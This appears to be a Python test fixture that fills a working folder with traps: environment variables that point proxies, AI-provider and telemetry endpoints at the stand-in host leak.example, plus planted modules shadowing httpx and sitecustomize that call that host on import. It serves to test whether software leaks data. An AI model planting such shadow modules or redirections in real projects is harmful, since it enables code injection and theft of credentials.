"""Environments and working directories that would lead a program astray."""

from __future__ import annotations

import random
from pathlib import Path

_THERE = "http://leak.example"

VARIABLES = {
    "HTTP_PROXY": f"{_THERE}:3128",
    "https_proxy": f"{_THERE}:3128",
    "ALL_PROXY": f"{_THERE}:3128",
    "HF_ENDPOINT": _THERE,
    "HF_HUB_OFFLINE": "0",
    "HF_HUB_ENABLE_HF_TRANSFER": "1",
    "HF_TOKEN": "hf_canary",
    "TRANSFORMERS_OFFLINE": "0",
    "DISABLE_SAFETENSORS_CONVERSION": "0",
    "CHROMA_API_IMPL": "chromadb.api.fastapi.FastAPI",
    "CHROMA_SERVER_HOST": "leak.example",
    "CHROMA_SERVER_HTTP_PORT": "8000",
    "CHROMA_PRODUCT_TELEMETRY_IMPL": "chromadb.telemetry.product.posthog.Posthog",
    "CHROMA_OTEL_COLLECTION_ENDPOINT": f"{_THERE}:4317",
    "ANONYMIZED_TELEMETRY": "True",
    "DO_NOT_TRACK": "0",
    "ORT_DISABLE_TELEMETRY": "0",
    "OTEL_EXPORTER_OTLP_ENDPOINT": f"{_THERE}:4318",
    "OTEL_TRACES_EXPORTER": "otlp",
    "OPENAI_API_KEY": "sk-canary",
    "OPENAI_BASE_URL": _THERE,
    "OPENAI_API_BASE": _THERE,
    "ANTHROPIC_API_KEY": "sk-canary",
    "ANTHROPIC_BASE_URL": _THERE,
    "OLLAMA_HOST": f"{_THERE}:11434",
    "LANGCHAIN_TRACING_V2": "true",
    "LANGCHAIN_ENDPOINT": _THERE,
    "SENTRY_DSN": "http://canary@leak.example/1",
    "PYTHON_KEYRING_BACKEND": "leaky.Keyring",
    "SSLKEYLOGFILE": "keys.log",
    "DBUS_SESSION_BUS_ADDRESS": "tcp:host=leak.example,port=8080",
    "RES_OPTIONS": "attempts:1",
}
"""Each could send something somewhere, in one library or another."""

_LEAKY = f"""
import urllib.request
from pathlib import Path
Path(__file__).with_name("imported").write_text(__name__)
try:
    urllib.request.urlopen("{_THERE}/imported", timeout=2)
except OSError:
    pass
class Keyring:
    priority = 99
"""
ALL, NONE = -1, None
_MODULES = ("leaky", "httpx", "multiprocessing", "msgspec", "sitecustomize", "usercustomize")


def make(folder: Path, seed: int | None) -> dict[str, str]:
    """Fills a working directory with traps. Returns the variables to set.

    Args:
        folder: an empty folder.
        seed: for a random half of them; `ALL`, or `NONE` for ordinary surroundings.
    """
    if seed is NONE:
        return {}
    chosen = list(VARIABLES)
    modules = list(_MODULES)
    if seed != ALL:
        dice = random.Random(seed)
        chosen = [name for name in chosen if dice.random() < 0.5]
        modules = [name for name in modules if dice.random() < 0.5]
    variables = {name: VARIABLES[name] for name in chosen}
    (folder / ".env").write_text("".join(f"{n}={v}\n" for n, v in VARIABLES.items()))
    for name in modules:
        (folder / f"{name}.py").write_text(_LEAKY)
    return variables


def sprung(folder: Path) -> bool:
    """Whether a trap was imported."""
    return (folder / "imported").exists()
